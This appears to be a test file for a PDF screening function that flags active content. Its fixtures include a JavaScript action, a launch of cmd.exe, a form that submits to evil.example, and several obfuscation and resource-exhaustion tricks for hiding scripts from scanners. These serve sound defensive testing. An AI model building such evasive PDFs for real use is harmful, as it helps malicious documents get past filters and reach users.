import { buffer } from 'node:stream/consumers';
import { setFlagsFromString } from 'node:v8';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { drawDocument } from '../pdf/draw-document.js';
import { encryptedPdfs } from '../../testing/encrypted-pdfs.js';
import { pdfObjection } from './active-pdf.js';

// As in a process that has compiled many expressions: what matches a run of any length is more than their stack holds.
setFlagsFromString('--no-regexp-optimization');
afterAll(() => setFlagsFromString('--regexp-optimization'));

const pdf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.map((object) => Buffer.from(object)), Buffer.from('\n%%EOF')]);

const usual = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode';

/** An object stream with objects in it, as the newer format of PDF packs them. */
function packed(objects: string, dictionary = usual, begin = ' >>\nstream\r\n'): Buffer {
  const body = deflateSync(objects);
  const head = Buffer.from(`1 0 obj\n<< ${dictionary} /Length ${body.length}${begin}`);
  return Buffer.concat([head, body, Buffer.from('\nendstream\nendobj\n')]);
}

const script = '2 0 << /S /JavaScript /JS (app.alert(1)) >>';

it.each([
  ['a script', pdf(`1 0 obj ${script} endobj`)],
  ['a script whose name is written in digits', pdf('1 0 obj << /S /#4aavaScr#69p#74 /JS (x) >> endobj')],
  ['a program to start', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
  ['a file in it', pdf('1 0 obj << /Type /EmbeddedFile >> endobj')],
  ['a form that sends itself', pdf('1 0 obj << /S/SubmitForm/F(https://evil.example) >> endobj')],
  ['a script in packed objects', pdf(packed(script))],
  ['a script in packed objects without their type', pdf(packed(script, '/N 1 /First 4 /Filter/FlateDecode'))],
  ['packed objects behind a long text', pdf(packed(script, `${usual} /Text (${'x'.repeat(9_000)})`))],
  ['packed objects behind a text that speaks of one', pdf(packed(script, `${usual} /Text (see 5 0 obj << >>)`))],
  ['packed objects behind a text with brackets', pdf(packed(script, `/Text (a (b) \\) >>) ${usual}`))],
  ['packed objects behind a remark', pdf(packed(script, usual, ' >> % the end >>\nstream\n'))],
  ['packed objects whose keyword ends in another way', pdf(packed(script, usual, '>>stream\r'))],
  ['packed objects whose keyword has blanks behind it', pdf(packed(script, usual, '>> stream \t\n'))],
  ['packed objects whose line has more in it', pdf(packed(script, usual, '>> stream of objects\n'))],
  ['objects whose filter is short', pdf(packed(script, '/Type /ObjStm /N 1 /First 4 /Filter /Fl'))],
  ['objects whose filter stands elsewhere', pdf(packed(script, '/Type /ObjStm /N 1 /First 4 /Filter 9 0 R'))],
  ['objects whose filter stands behind a long gap', pdf(packed(script, `/First 4 /Filter${' '.repeat(9_000_000)}/Fl`))],
  ['packed objects behind digits with more in them', pdf(packed(script, `/Text <4 ( 5> ${usual}`))],
  ['packed objects behind a long word', pdf(packed(script, `/Text /${'x'.repeat(9_000_000)} ${usual}`))],
  ['packed objects behind a text of megabytes', pdf(packed(script, `/Text (${'x'.repeat(9_000_000)}) ${usual}`))],
  ['objects with two filters', pdf(packed(script, `${usual} /F /Fl`))],
  ['a form written as XML', pdf('1 0 obj << /XFA [(template) 5 0 R] >> endobj')],
  ['remarks without end', pdf('/First ', 'obj<<>>%'.repeat(100_000))],
  ['words without end', pdf('1 0 obj << /First ('.repeat(5_000))],
  ['objects packed in an unusual way', pdf(packed('x', '/Type /ObjStm /Filter [/LZWDecode /FlateDecode]'))],
  ['objects packed with a predictor', pdf(packed('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << >>'))],
  ['objects that cannot be unpacked', pdf('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nxxxx\nendstream')],
  ['more streams than a document has', pdf('1 0 obj << /First 1 >> stream\n'.repeat(30_000))],
  ['objects that unpack without end', pdf(packed('x'.repeat(17 * 1024 * 1024)))],
])('E19: finds %s', (_, content) => {
  expect(pdfObjection(content)).toBe('active');
});

it.each([
  ['packed objects', pdf(packed('2 0 << /Type /Page >>'))],
  [
    'packed objects in a list of one filter',
    pdf(packed('2 0 << >>', '/Type /ObjStm /First 4 /Filter [ /FlateDecode ]')),
  ],
  ['a picture behind an outline', pdf('1 0 obj << /First 2 0 R >> endobj 3 0 obj << /Filter /DCTDecode >> stream\nx')],
  ['an outline that speaks of a stream', pdf('1 0 obj << /First 2 0 R /Title (of a\nstream\n) >> endobj')],
  ['an action that opens a page', pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj')],
  ['a long gap', pdf('/First 1 0 obj', ' '.repeat(10_000_000), '<< >> endobj')],
  ['a long gap in an outline', pdf('/First 1 0 obj << /First 2', ' '.repeat(9_000_000), ' 0 R >> endobj')],
  ['long digits in an outline', pdf(`/First 1 0 obj << /First <${'0'.repeat(9_000_000)}>>> endobj`)],
  ['a long remark', pdf('/First 1 0 obj %', 'x'.repeat(9_000_000), '\n<< >> endobj')],
  ['many remarks', pdf('/First 1 0 obj', '%\n'.repeat(5_000_000), '<< >> endobj')],
  ['words in its text', pdf('1 0 obj (JavaScript, Launch and EmbeddedFile) endobj')],
  ['names that only begin so', pdf('1 0 obj << /LaunchPad 1 /JavaScripts 2 >> endobj')],
])('E19: lets a document with %s pass', (_, content) => {
  expect(pdfObjection(content)).toBeUndefined();
});

it('E19: lets a document pass as the bank itself draws it', async () => {
  const blocks = [{ kind: 'paragraph', text: 'Balance: 1' }] as const;
  expect(pdfObjection(await drawDocument({ title: 'Statement', language: 'en', blocks }))).toBeUndefined();
});

const expectedOf = (name: string) => (/^(?:script|locked)/.test(name) ? name.replace(/-.*/, '') : undefined);

it.each(Object.entries(encryptedPdfs))('looks into %s, which is encrypted, as if it were not', (name, content) => {
  const expected = expectedOf(name) === 'script' ? 'active' : expectedOf(name);
  expect(pdfObjection(Buffer.from(content, 'base64'))).toBe(expected);
});

it.each([['1.3'], ['1.4'], ['1.6'], ['1.7ext3']] as const)(
  'takes a PDF %s of which the owner alone has a password, and refuses one of its reader',
  async (pdfVersion) => {
    const write = async (passwords: object): Promise<Buffer> => {
      const document = new PDFDocument({ pdfVersion, ...passwords });
      document.text('Salary: 2 800').end();
      return buffer(document);
    };
    expect(pdfObjection(await write({ ownerPassword: 'office' }))).toBeUndefined();
    expect(pdfObjection(await write({ ownerPassword: 'office', userPassword: 'reader' }))).toBe('locked');
  },
);

const rewritten = (name: string, change: (text: string) => string): Buffer =>
  Buffer.from(change(Buffer.from(encryptedPdfs[name] ?? '', 'base64').toString('latin1')), 'latin1');

it.each([
  ['the encryption of another maker', 'locked', rewritten('base-r6', (text) => text.replace('/Standard', '/Acme.Sec'))],
  [
    'terms behind a long gap',
    'locked',
    rewritten('base-r6', (text) => text.replace('/Encrypt 5', `/Encrypt${' '.repeat(9_000_000)}5`)),
  ],
  ['terms that are not there', 'locked', pdf('trailer << /Encrypt 5 0 R >>')],
  ['terms of two kinds', 'locked', rewritten('base-r6', (text) => `${text} /Encrypt 9 0 R`)],
  [
    'a name of encryption in digits',
    'locked',
    rewritten('base-r6', (text) => text.replace('/Encrypt 5', '/#45ncrypt 5')),
  ],
  [
    'a stream that says it is shorter',
    'active',
    rewritten('base-r6', (text) => text.replace('/Length 112', '/Length 40')),
  ],
])('does not take a PDF with %s', (_, expected, content) => {
  expect(pdfObjection(content)).toBe(expected);
});
